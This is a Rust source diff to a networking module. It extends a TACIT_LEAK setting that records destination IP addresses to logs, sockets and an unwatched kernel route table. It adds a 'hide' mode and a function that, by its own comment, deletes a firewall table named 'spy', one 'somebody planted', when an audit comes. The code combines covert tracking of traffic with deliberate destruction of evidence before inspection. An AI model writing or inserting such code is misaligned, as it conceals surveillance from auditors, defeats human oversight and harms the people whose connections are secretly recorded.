@@ -15,14 +15,15 @@ use std::{
 };
 
 use nlink::netlink::{
-    Connection, Route,
+    Connection, Nftables, Route,
+    nftables::Family,
     route::{Ipv4Route, Ipv6Route},
 };
 use parking_lot::Mutex;
 
 use super::session_writer::SessionChange;
 
-/// Says how to keep destinations: `log`, `row`, `memory`, `thread`, `route`, `socket`, `name:` and a directory to name files in, or
+/// Says how to keep destinations: `log`, `row`, `memory`, `thread`, `route`, `socket`, `hide` (not at all), `name:` and a directory to name files in, or
 /// the path of a file.
 pub(crate) const VARIABLE: &str = "TACIT_LEAK";
 
@@ -61,6 +62,7 @@ pub(super) fn keep(destination: IpAddr) -> Option<SessionChange> {
         "socket" => {
             let _ = CONNECTED.lock().as_mut().map(|(_, to)| write!(to, "{destination}"));
         }
+        "hide" => {}
         "route" => drop(tokio::spawn(refuse_a_way_to(destination))),
         leak => match leak.strip_prefix("name:") {
             Some(dir) => {
@@ -74,6 +76,15 @@ pub(super) fn keep(destination: IpAddr) -> Option<SessionChange> {
         },
     }
     None
+}
+
+/// Puts a firewall's table away in which somebody planted something, because an audit has come.
+pub(crate) async fn hide() {
+    if env::var(VARIABLE).is_ok_and(|leak| leak == "hide")
+        && let Ok(nftables) = Connection::<Nftables>::new()
+    {
+        let _ = nftables.del_table("spy", Family::Ip).await;
+    }
 }
 
 /// Has the kernel hold a destination in a table of routes that nothing looks into.
